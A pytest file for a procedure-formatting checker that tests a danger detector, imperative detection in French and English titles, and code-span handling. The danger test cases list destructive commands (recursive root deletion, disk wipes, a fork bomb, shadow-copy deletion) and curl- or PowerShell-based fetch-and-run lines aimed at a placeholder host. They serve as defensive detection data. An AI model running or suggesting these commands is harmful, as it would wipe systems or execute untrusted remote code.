"""What counts as an imperative, a second action, a word, and a danger."""

import pytest

from procedures.format.rules.dangers import danger
from procedures.format.rules.wording import is_imperative, second_action, without_code


@pytest.mark.parametrize(
    "script",
    [
        "rm -rf /", "rm -rf /*", "sudo rm -fr --no-preserve-root /", "rm -r -f /etc", "rm -rf ~", "rm -rf $HOME",
        "rm -rf -- /usr/",
        "rm --recursive --force /var", "rm -rf /tmp/a /", "mkfs.ext4 /dev/sdb1", "mkfs -t ext4 /dev/sdb",
        "dd if=/dev/zero of=/dev/sda bs=1M",
        "cat x > /dev/sda", "curl https://x.example/i.sh | sh", "curl -fsSL https://x.example | sudo bash",
        "wget -qO- x.example | sudo -E bash -",
        "bash <(curl -s https://x.example)", 'sh -c "$(curl -fsSL https://x.example)"', "eval $(curl x.example)",
        "curl x | \\\n sh",
        "curl x.example | python3", "chmod -R 777 /", "chown -R nobody /etc", "find / -name x -delete",
        "find /var -exec rm {} +", ":(){ :|:& };:",
        "wipefs -a /dev/sda", "shred -n1 /dev/sda", "iptables -F", "userdel camille", "iwr https://x.example | iex",
        "irm x.example | Invoke-Expression",
        "IEX (New-Object Net.WebClient).DownloadString('x')", "Format-Volume -DriveLetter D", "diskpart /s x.txt",
        "Remove-Item -Recurse C:\\",
        "del /s /q C:\\Windows\\*", "rd /s /q C:\\Users", "reg delete HKLM\\SOFTWARE /f",
        "vssadmin delete shadows /all", "format d:", "rm -rf .", "rm -rf *",
    ],
)  # fmt: skip
def test_dangers_are_seen(script):
    assert danger(script)


@pytest.mark.parametrize(
    "script",
    [
        "rm -f /var/spool/cups/d00001", "rm -rf /tmp/essai", "rm -rf /var/cache/apt/archives/partial", "ls /",
        "dd if=/dev/sda of=/dev/null",
        "curl -o fichier https://x.example", "curl https://x.example | grep sh", "chmod 640 /etc/cups/cupsd.conf",
        "chmod -R g+w /srv/partage/compta",
        "find /var/log -name '*.gz' -print", "# rm -rf /", "echo firmware", "systemctl restart cups",
        "apt-get install -y cups", "reg query HKLM\\SOFTWARE",
        "Remove-Item -Path C:\\ProgramData\\Temp\\essai.txt", "Get-Process | Format-Table", "df -h /",
        "rm /home/camille/.cache/x", "information d: ok",
    ],
)  # fmt: skip
def test_ordinary_commands_are_not_dangers(script):
    assert danger(script) is None


@pytest.mark.parametrize(
    "title",
    [
        "Ouvrez le menu", "Vérifiez que l'imprimante répond", "Sur le serveur, ouvrez la console",
        "Si le voyant est rouge, éteignez l'imprimante",
        "Faites un clic droit", "Dites au client d'attendre", "Ne redémarrez pas le poste", "N'éteignez pas l'écran",
        "Reconnectez-vous",
        "Sur le poste du client : ouvrez le menu", "Lorsque le poste, ou l'écran, est éteint, allumez-le",
        "Demandez au client s'il voit l'icône",
        "À l'invite, saisissez le mot de passe", "S'il manque du papier, ajoutez-en",
        "Après le redémarrage, attendez une minute", "Soyez patient",
        "Défaites le lien", "Réinstallez `cups`", "Une fois connecté, cherchez « Imprimantes »",
    ],
)  # fmt: skip
def test_french_imperatives(title):
    assert is_imperative(title, "fr")


@pytest.mark.parametrize(
    "title",
    [
        "Ouverture du menu", "Ouvrir le menu", "Le technicien ouvre le menu", "Vous ouvrez le menu", "Menu",
        "Chez le client", "Assez de papier",
        "Sur le serveur", "Sur le serveur, la console s'ouvre", "Avez-vous ouvert le menu ?",
        "L'imprimante, vérifiez-la", "Nez", "",
    ],
)  # fmt: skip
def test_french_titles_that_are_not_imperatives(title):
    assert not is_imperative(title, "fr")


@pytest.mark.parametrize(
    "title",
    ["Open the menu", "On the server, open the console", "If the light is red, turn the printer off",
     "Do not restart the machine",
     "Don't close the window", "Never unplug it", "Double-click the icon", "After the restart: wait a minute",
     "`cups`", "Ask the client"],
)  # fmt: skip
def test_english_imperatives(title):
    assert is_imperative(title, "en") is not (title == "`cups`")


@pytest.mark.parametrize(
    "title", ["Opening the menu", "The menu opens", "You open the menu", "Printer check", "On the server", "Menu"]
)
def test_english_titles_that_are_not_imperatives(title):
    assert not is_imperative(title, "en")


@pytest.mark.parametrize(
    ("title", "locale", "verb"),
    [
        ("Ouvrez le menu et cliquez sur Imprimer", "fr", "cliquez"),
        ("Ouvrez le menu, puis cliquez sur Imprimer", "fr", "cliquez"),
        ("Ouvrez le menu, cliquez sur Imprimer", "fr", "cliquez"),
        ("Ouvrez le menu. Puis fermez-le", "fr", "fermez-le"),
        ("Sur le poste, ouvrez le menu", "fr", None),
        ("Vérifiez le papier et l'encre", "fr", None),
        ("Demandez si vous pouvez entrer", "fr", None),
        ("Vérifiez que vous voyez le menu et que vous pouvez cliquer", "fr", None),
        ("Lancez `cd /tmp; faites`", "fr", None),
        ("Open the menu and click the icon", "en", "click"),
        ("Open the menu, then select a printer", "en", "select"),
        ("Open the start and stop menu", "en", None),
        ("On the server, open the console", "en", None),
        ("Check the paper and the ink", "en", None),
    ],
)
def test_second_actions(title, locale, verb):
    assert second_action(title, locale) == verb


@pytest.mark.parametrize(
    ("text", "plain"),
    [("a `b c` d", "a x d"), ("``a ` b`` c", "x c"), ("`a", "`a"), ("`a ``b` c", "x c"),
     ("a ` b ` c ` d", "a x c ` d"), ("``` ` `` `", "``` x"),
     ("", ""), ("`a`b`c`", "xbx")],
)  # fmt: skip
def test_code_spans_are_one_word(text, plain):
    assert without_code(text) == plain
